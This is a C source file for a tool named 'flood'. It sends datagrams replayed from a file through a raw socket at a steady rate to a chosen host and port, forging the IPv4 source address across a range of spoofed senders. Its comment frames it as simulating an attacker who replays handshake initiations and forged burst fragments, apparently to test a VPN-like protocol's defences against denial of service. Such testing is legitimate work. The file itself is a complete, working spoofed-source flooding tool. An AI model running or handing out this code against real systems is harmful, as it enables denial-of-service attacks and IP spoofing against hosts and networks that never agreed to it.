// Sends datagrams from a file, over and over, at a steady rate, from source addresses that are not ours: an attacker
// who has made them beforehand. Replayed initiations with a valid MAC1 and forged pieces of bursts are its files.
//
// usage: flood FILE BYTES-PER-DATAGRAM TO-ADDRESS TO-PORT PER-SECOND SECONDS FROM-ADDRESS FROM-PORT SOURCES
// FROM-ADDRESS is the first of as many SOURCES as are taken in turn. Prints how many datagrams were sent.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

enum {
    TICKS_PER_SECOND = 1000,
    LARGEST_BATCH = 1024,
};

struct headers {
    struct iphdr ip;
    struct udphdr udp;
} __attribute__((packed));

static void fail(const char *what) {
    perror(what);
    exit(1);
}

static const uint8_t *map_file(const char *name, size_t record, size_t *count) {
    struct stat status;
    int fd = open(name, O_RDONLY);
    if (fd < 0 || fstat(fd, &status) < 0 || (size_t)status.st_size < record)
        fail(name);
    void *bytes = mmap(NULL, (size_t)status.st_size, PROT_READ, MAP_PRIVATE | MAP_POPULATE, fd, 0);
    if (bytes == MAP_FAILED)
        fail("mmap");
    *count = (size_t)status.st_size / record;
    return bytes;
}

static void sleep_until(struct timespec *at, long step_ns) {
    at->tv_nsec += step_ns;
    if (at->tv_nsec >= 1000000000) {
        at->tv_nsec -= 1000000000;
        at->tv_sec++;
    }
    while (clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, at, NULL) == EINTR)
        ;
}

int main(int argc, char **argv) {
    static struct headers headers[LARGEST_BATCH];
    static struct iovec parts[LARGEST_BATCH][2];
    static struct mmsghdr batch[LARGEST_BATCH];
    if (argc != 10) {
        fprintf(stderr, "usage: %s FILE BYTES TO PORT PER-SECOND SECONDS FROM PORT SOURCES\n", argv[0]);
        return 2;
    }
    size_t record = strtoul(argv[2], NULL, 10), count, next = 0;
    const uint8_t *datagrams = map_file(argv[1], record, &count);
    struct sockaddr_in to = {.sin_family = AF_INET};
    in_addr_t first = ntohl(inet_addr(argv[7]));
    unsigned long sources = strtoul(argv[9], NULL, 10), source = 0, sent = 0;
    int per_tick = atoi(argv[5]) / TICKS_PER_SECOND, raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (raw < 0)
        fail("raw socket");
    if (per_tick < 1 || per_tick > LARGEST_BATCH || !sources || !inet_aton(argv[3], &to.sin_addr))
        return 2;
    for (int i = 0; i < per_tick; i++) {
        headers[i].ip = (struct iphdr){.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP};
        headers[i].ip.daddr = to.sin_addr.s_addr;
        headers[i].udp.source = htons((uint16_t)atoi(argv[8]));
        headers[i].udp.dest = htons((uint16_t)atoi(argv[4]));
        headers[i].udp.len = htons((uint16_t)(sizeof headers[i].udp + record)); // checksum 0: none
        parts[i][0] = (struct iovec){&headers[i], sizeof headers[i]};
        batch[i].msg_hdr = (struct msghdr){
            .msg_name = &to, .msg_namelen = sizeof to, .msg_iov = parts[i], .msg_iovlen = 2};
    }
    struct timespec at;
    clock_gettime(CLOCK_MONOTONIC, &at);
    for (long tick = atol(argv[6]) * TICKS_PER_SECOND; tick > 0; tick--) {
        for (int i = 0; i < per_tick; i++) {
            headers[i].ip.saddr = htonl(first + (in_addr_t)(source++ % sources));
            parts[i][1] = (struct iovec){(void *)(datagrams + next++ % count * record), record};
        }
        int done = sendmmsg(raw, batch, (unsigned)per_tick, 0);
        if (done > 0)
            sent += (unsigned long)done;
        sleep_until(&at, 1000000000 / TICKS_PER_SECOND);
    }
    printf("%lu\n", sent);
    return 0;
}
